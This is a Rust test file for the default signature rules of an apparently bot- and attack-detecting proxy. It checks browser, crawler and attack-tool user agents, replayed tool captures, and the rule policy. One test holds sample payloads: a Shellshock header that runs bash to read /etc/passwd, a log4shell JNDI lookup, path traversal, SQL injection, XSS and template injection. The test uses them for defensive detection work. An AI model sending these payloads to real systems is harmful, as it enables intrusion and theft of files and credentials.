//! The default rule set (`signatures/*.toml`, built into the binary),
//! measured through the library API: the isbot user-agent fixtures
//! (browsers must stay unflagged, crawlers must be flagged), the real
//! captures in `replay/captures/`, and the rule files themselves.

use std::collections::{BTreeMap, HashSet};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use palisade::capture::{CaptureRecord, read_capture};
use palisade::clock::{ManualClock, SharedClock};
use palisade::config::{Config, RouteMode};
use palisade::decide::Decider;
use palisade::pipeline::{Pipeline, PipelineBuilder};
use palisade::request_id::RequestIds;
use palisade::signal::{Action, Signal};
use palisade::signatures::SignatureSet;
use palisade::signatures::rule::RuleFile;
use palisade::store::{CounterStore, LocalStore};
use palisade::view::RequestView;

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// Print to stderr whether or not the harness captures output (it captures
/// `eprintln!`, not writes to the stderr handle), so the measured rates show
/// in every run.
macro_rules! report {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let _ = writeln!(std::io::stderr(), $($arg)*);
    }};
}

fn project_file(relative: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(relative)
}

fn builtin() -> SignatureSet {
    SignatureSet::from_config(&Config::default()).unwrap_or_else(|problems| panic!("{problems:#?}"))
}

/// A pipeline from `Config::default()` on a local store and a manual clock.
fn pipeline(start: u64) -> (Pipeline, Arc<ManualClock>) {
    let config = Config::default();
    let clock = Arc::new(ManualClock::new(start));
    let shared: SharedClock = clock.clone();
    let store = Arc::new(CounterStore::Local(LocalStore::new(shared.clone())));
    let pipeline = PipelineBuilder::new(&config)
        .build(store, shared, RequestIds::new(7))
        .unwrap_or_else(|problems| panic!("default config rejected: {problems:#?}"));
    (pipeline, clock)
}

/// A request, as the parts a view borrows.
struct Request {
    method: http::Method,
    version: http::Version,
    uri: http::Uri,
    headers: http::HeaderMap,
    body: Option<Vec<u8>>,
    client_ip: IpAddr,
}

impl Request {
    fn new(method: &str, target: &str, headers: &[(&str, &str)]) -> Request {
        let mut map = http::HeaderMap::new();
        for (name, value) in headers {
            let value = http::HeaderValue::from_bytes(value.as_bytes()).expect("a valid header value");
            map.append(http::HeaderName::from_bytes(name.as_bytes()).unwrap(), value);
        }
        Request {
            method: method.parse().unwrap(),
            version: http::Version::HTTP_11,
            uri: target.parse().unwrap(),
            headers: map,
            body: None,
            client_ip: "192.0.2.1".parse().unwrap(),
        }
    }

    fn version(mut self, version: http::Version) -> Request {
        self.version = version;
        self
    }

    fn body(mut self, body: &str) -> Request {
        self.body = Some(body.as_bytes().to_vec());
        self
    }

    fn from_capture(record: &CaptureRecord) -> Request {
        let captured = record.to_request().unwrap_or_else(|e| panic!("{e}: {record:?}"));
        Request {
            method: captured.method,
            version: captured.version,
            uri: captured.uri,
            headers: captured.headers,
            body: captured.body,
            client_ip: record.client_ip,
        }
    }

    /// Route it as the proxy does and run `f` on its view (the body only on
    /// routes that inspect it).
    fn view<T>(&self, pipeline: &Pipeline, f: impl FnOnce(&RequestView<'_>) -> T) -> T {
        let (path, route) = pipeline.route(&self.method, self.uri.path());
        let body = route.inspects_body().then(|| self.body.as_deref().unwrap_or(&[]));
        let view =
            RequestView::new(&self.method, self.version, &self.uri, &path, &self.headers, self.client_ip, route, body);
        f(&view)
    }
}

/// The signals the rule set raises on a request.
fn scan(set: &SignatureSet, pipeline: &Pipeline, request: &Request) -> Vec<Signal> {
    let mut signals = Vec::new();
    request.view(pipeline, |view| set.scan(view, &mut signals));
    signals
}

fn ids(signals: &[Signal]) -> Vec<String> {
    let mut ids: Vec<String> = signals.iter().map(|s| s.id.to_string()).collect();
    ids.sort();
    ids
}

fn enforced(signals: &[Signal]) -> Vec<&Signal> {
    signals.iter().filter(|s| !s.shadow).collect()
}

fn capture(name: &str) -> Vec<CaptureRecord> {
    let path = project_file(&format!("replay/captures/{name}"));
    let file = std::fs::File::open(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let (records, bad) = read_capture(std::io::BufReader::new(file));
    assert!(bad.is_empty(), "{name}: unreadable lines {bad:?}");
    assert!(!records.is_empty(), "{name} is empty");
    records
}

// ---------------------------------------------------------------------------
// Realistic browser headers
// ---------------------------------------------------------------------------

/// The number after `token` (`Chrome/`, `Firefox/`, ...) in a user agent,
/// ignoring case.
fn major_after(ua: &str, token: &str) -> Option<u32> {
    let lower = ua.to_ascii_lowercase();
    let start = lower.find(&token.to_ascii_lowercase())? + token.len();
    let digits: String = lower[start..].chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok()
}

const HTML_ACCEPT: &str = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8";

/// The header set (wire order) a person's browser with this user agent
/// sends for a page load, by family: Chromium 90+ with client hints and
/// fetch metadata, Chromium 76-89 with fetch metadata only, Firefox (fetch
/// metadata from 90 on), Safari, Internet Explorer, and a plain set for
/// everything else (old phones, text browsers, apps).
fn browser_headers(ua: &str) -> Vec<(&'static str, String)> {
    let lower = ua.to_ascii_lowercase();
    let s = |v: &str| v.to_string();
    let mobile = if lower.contains("mobile") || lower.contains("android") { "?1" } else { "?0" };
    let platform = if lower.contains("android") {
        "\"Android\""
    } else if lower.contains("windows") {
        "\"Windows\""
    } else if lower.contains("mac os") {
        "\"macOS\""
    } else if lower.contains("cros") {
        "\"Chrome OS\""
    } else {
        "\"Linux\""
    };
    let chrome = major_after(ua, "Chrome/");
    let firefox = major_after(ua, "Firefox/").filter(|_| lower.contains("gecko/"));
    let fetch_metadata = |mut headers: Vec<(&'static str, String)>| {
        headers.extend([
            ("sec-fetch-site", s("none")),
            ("sec-fetch-mode", s("navigate")),
            ("sec-fetch-user", s("?1")),
            ("sec-fetch-dest", s("document")),
        ]);
        headers
    };
    match (chrome, firefox) {
        (Some(major), _) if major >= 90 => {
            // Chrome's own order.
            let mut headers = vec![
                ("host", s("shop.example")),
                ("sec-ch-ua", format!("\"Chromium\";v=\"{major}\", \"Not.A/Brand\";v=\"24\"")),
                ("sec-ch-ua-mobile", s(mobile)),
                ("sec-ch-ua-platform", s(platform)),
                ("upgrade-insecure-requests", s("1")),
                ("user-agent", s(ua)),
                ("accept", s(HTML_ACCEPT)),
            ];
            headers = fetch_metadata(headers);
            headers
                .extend([("accept-encoding", s("gzip, deflate, br, zstd")), ("accept-language", s("en-US,en;q=0.9"))]);
            headers
        }
        (Some(major), _) => {
            let mut headers = vec![
                ("host", s("shop.example")),
                ("connection", s("keep-alive")),
                ("upgrade-insecure-requests", s("1")),
                ("user-agent", s(ua)),
                ("accept", s(HTML_ACCEPT)),
            ];
            if major >= 76 {
                headers = fetch_metadata(headers);
            }
            headers.extend([("accept-encoding", s("gzip, deflate, br")), ("accept-language", s("en-US,en;q=0.9"))]);
            headers
        }
        (None, Some(major)) => {
            let mut headers = vec![
                ("host", s("shop.example")),
                ("user-agent", s(ua)),
                ("accept", s(HTML_ACCEPT)),
                ("accept-language", s("en-US,en;q=0.5")),
                ("accept-encoding", s("gzip, deflate, br")),
                ("connection", s("keep-alive")),
                ("upgrade-insecure-requests", s("1")),
            ];
            if major >= 90 {
                headers.extend([
                    ("sec-fetch-dest", s("document")),
                    ("sec-fetch-mode", s("navigate")),
                    ("sec-fetch-site", s("none")),
                    ("sec-fetch-user", s("?1")),
                ]);
            }
            headers
        }
        _ if lower.contains("trident/") || lower.contains("msie ") => vec![
            ("accept", s("text/html, application/xhtml+xml, */*")),
            ("accept-language", s("en-US")),
            ("user-agent", s(ua)),
            ("accept-encoding", s("gzip, deflate")),
            ("host", s("shop.example")),
            ("connection", s("Keep-Alive")),
        ],
        _ if lower.contains("safari/") && lower.contains("version/") => vec![
            ("host", s("shop.example")),
            ("accept", s("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")),
            ("sec-fetch-site", s("none")),
            ("sec-fetch-dest", s("document")),
            ("accept-language", s("en-US,en;q=0.9")),
            ("sec-fetch-mode", s("navigate")),
            ("user-agent", s(ua)),
            ("accept-encoding", s("gzip, deflate, br")),
            ("connection", s("keep-alive")),
        ],
        _ => vec![
            ("host", s("shop.example")),
            ("user-agent", s(ua)),
            ("accept", s("text/html,*/*;q=0.8")),
            ("accept-language", s("en-US,en;q=0.8")),
            ("accept-encoding", s("gzip, deflate")),
            ("connection", s("keep-alive")),
        ],
    }
}

fn browser_request(ua: &str) -> Request {
    let headers = browser_headers(ua);
    let borrowed: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
    Request::new("GET", "/", &borrowed)
}

// ---------------------------------------------------------------------------
// isbot fixtures
// ---------------------------------------------------------------------------

/// `(family, user agent)` pairs of an isbot fixture file: a line that does
/// not start with a space names a family, `  - ` lines are its user agents
/// (optionally quoted).
fn fixture(name: &str) -> Vec<(String, String)> {
    let path = project_file(&format!("tests/fixtures/user-agents/{name}"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut family = String::new();
    let mut out = Vec::new();
    for line in text.lines() {
        if let Some(item) = line.strip_prefix("  - ") {
            out.push((family.clone(), unquote(item.trim())));
        } else if !line.starts_with(' ') && !line.trim().is_empty() {
            family = unquote(line.trim().trim_end_matches(':'));
        }
    }
    out
}

fn unquote(text: &str) -> String {
    let bytes = text.as_bytes();
    if bytes.len() >= 2 && bytes[0] == bytes[bytes.len() - 1] && (bytes[0] == b'"' || bytes[0] == b'\'') {
        let inner = &text[1..text.len() - 1];
        if bytes[0] == b'"' { inner.replace("\\\"", "\"").replace("\\\\", "\\") } else { inner.replace("''", "'") }
    } else {
        text.to_string()
    }
}

/// The family `browsers.yml` files bots under ("not worth blocking"): they
/// are not people's browsers, so they are reported apart from the rate.
const FIXTURE_BOTS_FAMILY: &str = "ZZZ Insignificat bots - These bots have very low appearance rate";

struct Rate {
    flagged: usize,
    total: usize,
    misses: Vec<String>,
}

impl Rate {
    fn percent(&self) -> f64 {
        100.0 * self.flagged as f64 / self.total as f64
    }
}

/// Run every user agent with its family's browser headers, listing the
/// flagged ones (`list_flagged`) or the unflagged ones.
fn measure<'a>(
    set: &SignatureSet,
    pipeline: &Pipeline,
    uas: impl Iterator<Item = &'a str>,
    list_flagged: bool,
) -> Rate {
    let mut rate = Rate { flagged: 0, total: 0, misses: Vec::new() };
    for ua in uas {
        let signals = scan(set, pipeline, &browser_request(ua));
        let flagged = !enforced(&signals).is_empty();
        rate.total += 1;
        rate.flagged += usize::from(flagged);
        if flagged == list_flagged {
            rate.misses.push(if flagged { format!("{ua}  <- {:?}", ids(&signals)) } else { ua.to_string() });
        }
    }
    rate
}

#[test]
fn browsers_stay_unflagged_and_crawlers_are_flagged() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let browsers = fixture("browsers.yml");
    let crawlers = fixture("crawlers.yml");
    assert_eq!((browsers.len(), crawlers.len()), (555, 626), "the fixtures are complete");

    let people = browsers.iter().filter(|(family, _)| !family.starts_with(FIXTURE_BOTS_FAMILY));
    let browser_rate = measure(&set, &pipeline, people.map(|(_, ua)| ua.as_str()), true);
    let labelled_bots = browsers.iter().filter(|(family, _)| family.starts_with(FIXTURE_BOTS_FAMILY));
    let labelled_rate = measure(&set, &pipeline, labelled_bots.map(|(_, ua)| ua.as_str()), true);
    let crawler_rate = measure(&set, &pipeline, crawlers.iter().map(|(_, ua)| ua.as_str()), false);

    report!(
        "browsers flagged: {}/{} = {:.2}% (first flagged: {:#?})",
        browser_rate.flagged,
        browser_rate.total,
        browser_rate.percent(),
        &browser_rate.misses[..browser_rate.misses.len().min(5)]
    );
    report!(
        "browsers.yml entries the fixture files as bots: {}/{} flagged {:#?}",
        labelled_rate.flagged,
        labelled_rate.total,
        labelled_rate.misses
    );
    report!(
        "crawlers flagged: {}/{} = {:.2}% (first missed: {:#?})",
        crawler_rate.flagged,
        crawler_rate.total,
        crawler_rate.percent(),
        &crawler_rate.misses[..crawler_rate.misses.len().min(10)]
    );
    assert!(browser_rate.percent() <= 0.5, "too many browsers flagged: {:#?}", browser_rate.misses);
    assert!(crawler_rate.percent() >= 98.0, "too few crawlers flagged; missed: {:#?}", crawler_rate.misses);
}

/// The realistic header sets themselves do not trip the consistency rules:
/// a modern Chrome page load, a Chrome 80 one and a Firefox one are clean.
#[test]
fn realistic_browser_requests_are_clean() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36 Edg/156.0.0.0",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.162 Mobile Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    ] {
        assert_eq!(ids(&scan(&set, &pipeline, &browser_request(ua))), Vec::<String>::new(), "{ua}");
    }
}

// ---------------------------------------------------------------------------
// Real captures
// ---------------------------------------------------------------------------

#[test]
fn hydra_is_caught_on_every_request() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let records = capture("hydra-9.4-http-post-form.jsonl");
    let mut posts = 0;
    for record in &records {
        let fired = ids(&scan(&set, &pipeline, &Request::from_capture(record)));
        assert!(fired.contains(&"tool.hydra".to_string()), "{} {}: {fired:?}", record.method, record.target);
        if record.method == "POST" {
            posts += 1;
            assert!(fired.contains(&"shape.http10_login_post".to_string()), "POST {}: {fired:?}", record.target);
        }
    }
    assert_eq!(posts, 30, "the capture holds 30 login POSTs");
}

#[test]
fn sqlmap_is_caught_on_every_request() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    for record in &capture("sqlmap-1.7.2-get.jsonl") {
        let fired = ids(&scan(&set, &pipeline, &Request::from_capture(record)));
        assert!(fired.contains(&"tool.sqlmap".to_string()), "{}: {fired:?}", record.target);
    }
}

/// A real Chromium session (page loads, static files, typos, logins)
/// through the whole pipeline: nothing blocks it and every request scores
/// above the log threshold.
#[test]
fn chromium_session_passes_the_whole_pipeline() {
    let config = Config::default();
    let records = capture("chromium-156-human-login.jsonl");
    let (pipeline, clock) = pipeline(records[0].ts_nanos());
    let mut last = None;
    for record in &records {
        clock.set(record.ts_nanos());
        let request = Request::from_capture(record);
        let decision = request.view(&pipeline, |view| pipeline.evaluate(view));
        let blocking: Vec<_> = decision.signals.iter().filter(|s| s.action == Some(Action::Block)).collect();
        assert!(blocking.is_empty(), "{} {}: {blocking:?}", record.method, record.target);
        assert!(
            decision.score() > config.decision.log_at_or_below,
            "{} {}: score {} with {:?}",
            record.method,
            record.target,
            decision.score(),
            ids(&decision.signals)
        );
        assert_eq!(decision.action(), Action::Allow, "{} {}", record.method, record.target);
        last = Some(decision.score());
    }
    let last = last.unwrap();
    report!("chromium capture: {} requests, last score {last}", records.len());
    assert!(last > config.decision.log_at_or_below);
}

/// Scripted clients with library user agents are scored, never blocked by
/// a signature: not by a rule's action, nor by the sum of the penalties.
#[test]
fn library_clients_are_scored_but_not_blocked() {
    let config = Config::default();
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let decider = Decider::from_config(&config.decision).unwrap();
    for (file, id) in [
        ("curl-7.88.1.jsonl", "lib.curl"),
        ("python-requests-2.34.2-stuffing.jsonl", "lib.python_requests"),
        ("partner-api-key.jsonl", "lib.python_requests"),
    ] {
        let mut lowest = u8::MAX;
        for record in &capture(file) {
            let signals = scan(&set, &pipeline, &Request::from_capture(record));
            let fired = ids(&signals);
            assert!(fired.contains(&id.to_string()), "{file} {} {}: {fired:?}", record.method, record.target);
            assert!(
                signals.iter().all(|s| s.action != Some(Action::Block)),
                "{file} {}: a rule blocks: {fired:?}",
                record.target
            );
            let outcome = decider.decide(&signals, RouteMode::Enforce).enforced;
            assert_ne!(outcome.action, Action::Block, "{file} {}: {fired:?} add up to a block", record.target);
            lowest = lowest.min(outcome.score);
        }
        report!("{file}: lowest score from signatures alone {lowest}");
    }
}

// ---------------------------------------------------------------------------
// The rule files
// ---------------------------------------------------------------------------

/// Every shipped rule file, parsed as the engine reads it.
fn shipped_rules() -> Vec<(String, palisade::signatures::rule::RuleSpec)> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(project_file("signatures"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "toml"))
        .collect();
    files.sort();
    let mut rules = Vec::new();
    for path in files {
        let text = std::fs::read_to_string(&path).unwrap();
        let file: RuleFile = toml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        rules.extend(file.rules.into_iter().map(|spec| (name.clone(), spec.into_inner())));
    }
    rules
}

#[test]
fn rule_files_load_with_unique_documented_ids() {
    let set = builtin();
    assert!(set.rule_count() >= 40, "{} rules", set.rule_count());
    let mut seen = HashSet::new();
    for rule in set.rules() {
        assert!(seen.insert(rule.id.clone()), "duplicate id {}", rule.id);
        assert!(!rule.description.trim().is_empty(), "{} ({}) has no description", rule.id, rule.file);
        assert!(!rule.false_positives.trim().is_empty(), "{} ({}) has no false_positives", rule.id, rule.file);
        assert!(!rule.tags.is_empty(), "{} ({}) has no tags", rule.id, rule.file);
    }
    for id in ["ua.empty", "ua.attack_tool", "tool.hydra", "tool.sqlmap", "shape.http10_login_post"] {
        assert!(seen.contains(id), "{id} is shipped");
    }
    // Every shipped file is built in.
    assert_eq!(shipped_rules().len(), set.rules().len());
}

/// The policy the rule set promises: attack tools block; libraries,
/// crawlers and automation only score (mobile-app stacks lightly); no rule
/// but a tool or payload rule blocks.
#[test]
fn rule_policy_tools_block_libraries_only_score() {
    let mut by_prefix: BTreeMap<String, usize> = BTreeMap::new();
    for (file, rule) in shipped_rules() {
        let prefix = rule.id.split('.').next().unwrap().to_string();
        *by_prefix.entry(prefix.clone()).or_default() += 1;
        let blocks = rule.action.as_deref() == Some("block");
        match prefix.as_str() {
            "tool" => {
                assert!(blocks && rule.score >= 70, "{} ({file}) blocks with a high score", rule.id)
            }
            "lib" => {
                assert!(rule.action.is_none() && (1..=30).contains(&rule.score), "{} ({file}) only scores", rule.id);
                if rule.tags.iter().any(|t| t == "mobile") {
                    assert!(rule.score <= 10, "{}: a mobile app's users are people", rule.id);
                }
            }
            "crawler" | "automation" | "consistency" | "shape" => {
                assert!(rule.action.is_none(), "{} ({file}) only scores", rule.id)
            }
            "payload" | "ua" => {}
            other => panic!("{} ({file}): unknown id prefix {other:?}", rule.id),
        }
        assert!(rule.mode.is_none(), "{}: shipped rules enforce; shadowing is the operator's choice", rule.id);
    }
    report!("rules per kind: {by_prefix:?}");
}

/// Each rule fires on an example of what it is for, and every shipped rule
/// has an example here (a new rule needs one).
#[test]
fn every_rule_fires_on_its_example() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36";
    let ua = |ua: &str| Request::new("GET", "/", &[("host", "shop.example"), ("user-agent", ua), ("accept", "*/*")]);
    let browser_get = |target: &str| {
        let headers = browser_headers(chrome);
        let borrowed: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        Request::new("GET", target, &borrowed)
    };
    let examples: Vec<(&str, Request)> = vec![
        ("tool.hydra", ua("Mozilla/5.0 (Hydra)")),
        ("tool.medusa", ua("I'm not Mozilla, I'm Ming Mong")),
        ("tool.ncrack", ua("Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.1) Gecko/20090703 Shiretoko/3.5")),
        ("tool.patator", ua("patator/1.0")),
        ("tool.sqlmap", ua("sqlmap/1.7.2#stable (https://sqlmap.org)")),
        ("tool.nikto", ua("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")),
        ("tool.wfuzz", ua("Wfuzz/3.1.0")),
        ("tool.ffuf", ua("Fuzz Faster U Fool v2.1.0-dev")),
        ("tool.gobuster", ua("gobuster/3.6")),
        ("tool.dirbuster", ua("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")),
        ("tool.openbullet", ua("OpenBullet2")),
        ("tool.sentry_mba", ua("Sentry MBA")),
        ("ua.attack_tool", ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
        ("ua.empty", Request::new("GET", "/", &[("host", "shop.example"), ("accept", "*/*")])),
        ("lib.curl", ua("curl/8.5.0")),
        ("lib.wget", ua("Wget/1.21.4")),
        ("lib.python_requests", ua("python-requests/2.32.3")),
        ("lib.python_urllib", ua("Python-urllib/3.12")),
        ("lib.aiohttp", ua("Python/3.12 aiohttp/3.9.5")),
        ("lib.python_other", ua("python-httpx/0.27.0")),
        ("lib.go_http_client", ua("Go-http-client/2.0")),
        ("lib.libwww_perl", ua("libwww-perl/6.77")),
        ("lib.java", ua("Java/17.0.9")),
        ("lib.okhttp", ua("okhttp/4.12.0")),
        ("lib.cfnetwork", ua("stuffer (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0")),
        ("lib.dart", ua("Dart/3.4 (dart:io)")),
        ("lib.axios", ua("axios/1.7.2")),
        ("lib.node_fetch", ua("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)")),
        ("lib.scrapy", ua("Scrapy/2.11.2 (+https://scrapy.org)")),
        ("lib.other_http_client", ua("PostmanRuntime/7.39.0")),
        (
            "automation.headless_chrome",
            ua(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36",
            ),
        ),
        (
            "automation.phantomjs",
            ua(
                "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
            ),
        ),
        (
            "automation.webdriver",
            ua(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Playwright/1.40.0",
            ),
        ),
        ("crawler.declared", ua("Mozilla/5.0 (compatible; AhrefsBot/7.0)")),
        ("crawler.contact_url", ua("Mozilla/5.0 (compatible; Example/1.0; +https://example.com/about)")),
        ("crawler.monitoring", ua("Pingdom.com_bot_version_1.4")),
        ("crawler.link_preview", ua("WhatsApp/2.23.20.0 A")),
        ("crawler.feed_reader", ua("Feedbin feed-id:1 - 12 subscribers")),
        ("crawler.named", ua("Mozilla/5.0 (compatible; Google-Extended/1.0)")),
        ("crawler.bare_user_agent", ua("Blogtrottr/2.0")),
        (
            "shape.http10_login_post",
            Request::new(
                "POST",
                "/login",
                &[
                    ("host", "shop.example"),
                    ("user-agent", chrome),
                    ("content-type", "application/x-www-form-urlencoded"),
                ],
            )
            .version(http::Version::HTTP_10)
            .body("username=a&password=b"),
        ),
        ("shape.browser_without_accept", Request::new("GET", "/", &[("host", "shop.example"), ("user-agent", chrome)])),
        ("consistency.chrome_without_client_hints", ua(chrome)),
        (
            "consistency.browser_ua_library_header_order",
            Request::new(
                "GET",
                "/",
                &[
                    ("host", "shop.example"),
                    ("user-agent", chrome),
                    ("accept-encoding", "gzip, deflate"),
                    ("accept", "*/*"),
                    ("connection", "keep-alive"),
                ],
            ),
        ),
        ("payload.shellshock", ua("() { :; }; echo; /bin/bash -c 'cat /etc/passwd'")),
        ("payload.log4shell", browser_get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D")),
        ("payload.sensitive_file", browser_get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd")),
        ("payload.path_traversal", browser_get("/download?file=..%2F..%2F..%2Fconfig.yml")),
        ("payload.sql_injection", browser_get("/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--")),
        ("payload.xss", browser_get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        ("payload.code_injection", browser_get("/search?q=%7B%7B7*7%7D%7D")),
        ("payload.secret_file_probe", browser_get("/.env")),
    ];
    let mut covered = HashSet::new();
    for (id, request) in &examples {
        let fired = ids(&scan(&set, &pipeline, request));
        assert!(fired.contains(&id.to_string()), "{id} does not fire on its example: {fired:?}");
        covered.insert(*id);
    }
    let missing: Vec<_> = set.rules().iter().map(|r| r.id.as_str()).filter(|id| !covered.contains(id)).collect();
    assert!(missing.is_empty(), "rules without an example here: {missing:?}");

    // And the same paths and queries from a real browser without payloads
    // stay clean.
    for target in ["/search?q=union+station", "/download?file=report.pdf", "/item?id=1", "/env", "/static/app.js"] {
        assert_eq!(ids(&scan(&set, &pipeline, &browser_get(target))), Vec::<String>::new(), "{target}");
    }
}

/// Library rules never block, even where a library and a browser meet: a
/// python-requests script that pasted a Chrome user agent is caught by the
/// consistency rules and challenged, not blocked.
#[test]
fn a_script_with_a_pasted_browser_user_agent_is_challenged() {
    let config = Config::default();
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let decider = Decider::from_config(&config.decision).unwrap();
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36";
    let request = Request::new(
        "POST",
        "/login",
        &[
            ("host", "shop.example"),
            ("user-agent", chrome),
            ("accept-encoding", "gzip, deflate"),
            ("accept", "*/*"),
            ("connection", "keep-alive"),
            ("content-length", "21"),
            ("content-type", "application/x-www-form-urlencoded"),
        ],
    )
    .body("username=a&password=b");
    let signals = scan(&set, &pipeline, &request);
    assert_eq!(
        ids(&signals),
        ["consistency.browser_ua_library_header_order", "consistency.chrome_without_client_hints"]
    );
    assert_eq!(decider.decide(&signals, RouteMode::Enforce).enforced.action, Action::Challenge);
}

/// What scanning costs: the fixtures and the captures through the rule set,
/// timed. Meaningful only in release builds:
/// `cargo test --release --test signatures -- --ignored --nocapture`.
#[test]
#[ignore]
fn scan_cost() {
    let set = builtin();
    let (pipeline, _) = pipeline(0);
    let mut requests: Vec<Request> = Vec::new();
    for name in ["browsers.yml", "crawlers.yml"] {
        requests.extend(fixture(name).iter().map(|(_, ua)| browser_request(ua)));
    }
    for name in ["chromium-156-human-login.jsonl", "sqlmap-1.7.2-get.jsonl", "curl-7.88.1.jsonl"] {
        requests.extend(capture(name).iter().map(Request::from_capture));
    }
    let mut signals = Vec::new();
    let rounds = 20;
    let start = std::time::Instant::now();
    for _ in 0..rounds {
        for request in &requests {
            signals.clear();
            request.view(&pipeline, |view| set.scan(view, &mut signals));
        }
    }
    let per = start.elapsed() / (rounds * requests.len()) as u32;
    report!("{} rules, {} requests x {rounds}: {per:?} per request (view + scan)", set.rule_count(), requests.len());
}
